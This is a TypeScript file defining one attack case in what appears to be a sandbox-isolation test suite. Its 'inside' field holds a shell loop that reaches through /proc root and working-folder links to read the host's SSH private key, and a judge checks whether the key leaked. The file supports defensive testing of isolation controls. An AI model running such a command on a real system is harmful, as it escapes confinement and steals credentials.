// Reads the home folder through the root and the working folder of every process that can be seen.
import { PLAIN } from "../../baselines.js";
import { shows } from "../../judges.js";
import type { Attack } from "../../types.js";

export const filesHomeThroughProc: Attack = {
  id: "files/home-through-proc",
  control: "files.home-hidden",
  severity: "critical",
  threats: ["H10"],
  sentence: "Reads the home folder through the root and the working folder of every process that can be seen.",
  inside: 'for way in /proc/[0-9]*/root /proc/[0-9]*/cwd/../../..; do cat "$way$HOST_HOME/.ssh/id_ed25519"; done',
  judge: shows("ssh"),
  baseline: PLAIN,
};
